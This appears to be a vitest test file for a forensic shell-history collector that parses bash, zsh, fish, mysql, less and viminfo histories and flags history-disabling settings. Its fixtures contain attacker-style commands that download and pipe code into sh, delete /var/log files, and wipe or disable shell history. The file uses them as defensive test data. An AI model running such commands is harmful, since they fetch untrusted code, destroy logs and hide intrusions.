import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_ENTRY_CHARS, parseBash, parseFish, parseHistory, parseLess, parsePlain, parseViminfo, parseZsh, unmetafy } from '../../../src/collectors/shell-history/parse-history.js';
import { parseHistorySettings, settingDisablesHistory } from '../../../src/collectors/shell-history/parse-settings.js';

const brief = (h: { entries: Array<{ line: number; kind: string; text: string; time: number | null }> }) => h.entries.map((e) => [e.line, e.kind, e.text, e.time]);

describe('bash history', () => {
  it('plain lines: one command each, no time, blank lines dropped, CRLF trimmed', () => {
    expect(brief(parseBash('ls -la\n\ncd /tmp\r\nwget http://x/a.sh\n'))).toEqual([
      [1, 'command', 'ls -la', null],
      [3, 'command', 'cd /tmp', null],
      [4, 'command', 'wget http://x/a.sh', null],
    ]);
  });

  it('#epoch lines stamp the lines after them; lines between two stamps are one entry', () => {
    const text = '#1700000000\ncd /dev/shm\n#1700000060\nfor i in 1 2; do\n  curl http://x/$i | sh\ndone\n#1700000120\nhistory -c\n';
    expect(brief(parseBash(text))).toEqual([
      [2, 'command', 'cd /dev/shm', 1700000000],
      [4, 'command', 'for i in 1 2; do\n  curl http://x/$i | sh\ndone', 1700000060],
      [8, 'command', 'history -c', 1700000120],
    ]);
  });

  it('untimed lines before the first stamp stay untimed; stamps out of order are kept as written', () => {
    expect(brief(parseBash('id\n#1700000100\nw\n#1700000000\nuname -a\n'))).toEqual([
      [1, 'command', 'id', null],
      [3, 'command', 'w', 1700000100],
      [5, 'command', 'uname -a', 1700000000],
    ]);
  });

  it('a comment that is not a plausible stamp is a command (#1, #12345678901234)', () => {
    expect(brief(parseBash('#1\n#12345678901234\n# note\n'))).toEqual([
      [1, 'command', '#1', null],
      [2, 'command', '#12345678901234', null],
      [3, 'command', '# note', null],
    ]);
  });

  it('a huge line is cut; entries past the cap are counted', () => {
    const r = parseBash(`${'a'.repeat(MAX_ENTRY_CHARS * 2)}\nb\nc\n`, 2);
    expect(r.entries[0].text.length).toBe(MAX_ENTRY_CHARS);
    expect(r.entries.length).toBe(2);
    expect(r.leftOut).toBe(1);
  });
});

describe('zsh history', () => {
  it('extended history: start, duration, command; multi-line entries joined', () => {
    const text = ': 1700000000:0;ls\n: 1700000005:12;for f in *; do\\\necho $f\\\ndone\n: 1700000030:0;unset HISTFILE\n';
    const r = parseZsh(Buffer.from(text));
    expect(brief(r)).toEqual([
      [1, 'command', 'ls', 1700000000],
      [2, 'command', 'for f in *; do\necho $f\ndone', 1700000005],
      [5, 'command', 'unset HISTFILE', 1700000030],
    ]);
    expect(r.entries[1].durationSeconds).toBe(12);
  });

  it('plain zsh history (no EXTENDED_HISTORY) and a malformed stamp are untimed commands', () => {
    expect(brief(parseZsh(Buffer.from('whoami\n: abc:0;id\n')))).toEqual([
      [1, 'command', 'whoami', null],
      [2, 'command', ': abc:0;id', null],
    ]);
  });

  it('metafied bytes are put back (0x83 then byte xor 32)', () => {
    // zsh metafies NUL and 0x83–0xA2: 0x9F is written 0x83 0xBF, and "€" (E2 82 AC) as E2 83 A2 AC.
    expect([...unmetafy(Uint8Array.from([0x61, 0x83, 0xbf, 0x62]))]).toEqual([0x61, 0x9f, 0x62]);
    expect(parseZsh(Buffer.from([0x3a, 0x20, ...Buffer.from('1700000000:0;echo '), 0xe2, 0x83, 0xa2, 0xac, 0x0a])).entries[0].text).toBe('echo €');
  });

  it('a trailing backslash on the last line does not loop and is kept as written', () => {
    expect(brief(parseZsh(Buffer.from('echo a\\')))).toEqual([[1, 'command', 'echo a\\', null]]);
  });
});

describe('fish history', () => {
  it('- cmd / when pairs, paths ignored, escapes undone', () => {
    const text = '- cmd: cd /tmp\n  when: 1700000000\n- cmd: echo a\\nb \\\\ c\n  when: 1700000010\n  paths:\n    - /tmp/x\n- cmd: no time\n';
    expect(brief(parseFish(text))).toEqual([
      [1, 'command', 'cd /tmp', 1700000000],
      [3, 'command', 'echo a\nb \\ c', 1700000010],
      [7, 'command', 'no time', null],
    ]);
  });
});

describe('plain and libedit histories', () => {
  it('ash/sh: one command a line; ksh magic bytes dropped', () => {
    expect(brief(parsePlain('\u0081\u0001ls\nid\n', 'command'))).toEqual([
      [1, 'command', 'ls', null],
      [2, 'command', 'id', null],
    ]);
  });

  it('python: statements', () => {
    expect(brief(parseHistory('python', Buffer.from('import os\nos.system("id")\n')))).toEqual([
      [1, 'python', 'import os', null],
      [2, 'python', 'os.system("id")', null],
    ]);
  });

  it('mysql (libedit): header skipped, \\040 escapes undone, \\! is a shell command', () => {
    const text = '_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n\\!\\040curl\\040http://x|sh\n';
    expect(brief(parseHistory('mysql', Buffer.from(text)))).toEqual([
      [2, 'sql', 'select * from users;', null],
      [3, 'command', 'curl http://x|sh', null],
    ]);
  });

  it('psql (readline): plain lines', () => {
    expect(brief(parseHistory('psql', Buffer.from('\\du\nDROP TABLE logs;\n')))).toEqual([
      [1, 'sql', '\\du', null],
      [2, 'sql', 'DROP TABLE logs;', null],
    ]);
  });
});

describe('less history', () => {
  it('search and shell sections', () => {
    const text = '.less-history-file:\n.search\n"password\n"root\n.shell\n"rm -rf /var/log/*\n';
    expect(brief(parseLess(text))).toEqual([
      [3, 'search', 'password', null],
      [4, 'search', 'root', null],
      [6, 'command', 'rm -rf /var/log/*', null],
    ]);
  });
});

describe('viminfo', () => {
  it('file marks with their times, files with marks, command lines and :! commands', () => {
    const text = [
      '# This viminfo file was generated by Vim 9.0.',
      '# Command Line History (newest to oldest):',
      ':wq',
      '|2,0,1700000200,,"wq"',
      ':!curl http://x/k | sh',
      '|2,0,1700000100,,"!curl http://x/k | sh"',
      '',
      '# File marks:',
      "'0  12  0  /etc/ssh/sshd_config",
      '|4,48,12,0,1700000300,"/etc/ssh/sshd_config"',
      "'1  1  0  ~/.ssh/authorized_keys",
      '|4,49,1,0,1700000250,"~/.ssh/authorized_keys"',
      '',
      '# History of marks within files (newest to oldest):',
      '',
      '> /etc/ssh/sshd_config',
      '\t*\t1700000300\t0',
    ].join('\n');
    expect(brief(parseViminfo(text))).toEqual([
      [3, 'vim-command', 'wq', 1700000200],
      [5, 'command', 'curl http://x/k | sh', 1700000100],
      [9, 'file-opened', '/etc/ssh/sshd_config', 1700000300],
      [11, 'file-opened', '~/.ssh/authorized_keys', 1700000250],
    ]);
  });
});

describe('history settings in start-up files', () => {
  it('assignments, export/declare, unset, set +o history; comments ignored', () => {
    const text = '# HISTFILE=/dev/null\nexport HISTFILE=/dev/null\nHISTSIZE=0; HISTFILESIZE="0"\ndeclare -x SAVEHIST=0\nunset HISTFILE\nset +o history\nHISTCONTROL=ignoreboth\nHISTSIZE=1000\n';
    const s = parseHistorySettings(text, '/home/a/.bashrc', 'a');
    expect(s.map((x) => [x.line, x.what, x.name, x.value, settingDisablesHistory(x) !== null])).toEqual([
      [2, 'histfile', 'HISTFILE', '/dev/null', true],
      [3, 'histsize', 'HISTSIZE', '0', true],
      [3, 'histsize', 'HISTFILESIZE', '0', true],
      [4, 'histsize', 'SAVEHIST', '0', true],
      [5, 'unset-histfile', null, null, true],
      [6, 'history-off', null, null, true],
      [8, 'histsize', 'HISTSIZE', '1000', false],
    ]);
  });
});

describe('hostile bytes', () => {
  it('every format takes arbitrary bytes without throwing, within the caps', () => {
    const formats = ['bash', 'zsh', 'fish', 'sh', 'python', 'mysql', 'psql', 'less', 'vim'] as const;
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 4096 }), fc.constantFrom(...formats), (bytes, format) => {
        const r = parseHistory(format, bytes, 50);
        expect(r.entries.length).toBeLessThanOrEqual(50);
        for (const e of r.entries) expect(e.text.length).toBeLessThanOrEqual(MAX_ENTRY_CHARS);
      }),
      { numRuns: 300 },
    );
  });

  it('binary junk with NULs and escape sequences stays data', () => {
    const r = parseBash('\u0000\u001b[2J\u001b]0;pwned\u0007\nls\n');
    expect(r.entries.map((e) => e.text)).toEqual(['\u0000\u001b[2J\u001b]0;pwned\u0007', 'ls']);
  });

  it('a long run of backslash-continued zsh lines is bounded', () => {
    const t0 = Date.now();
    const r = parseZsh(Buffer.from('x\\\n'.repeat(200_000)));
    expect(Date.now() - t0).toBeLessThan(5000);
    expect(r.entries.length).toBeGreaterThan(1);
  });
});
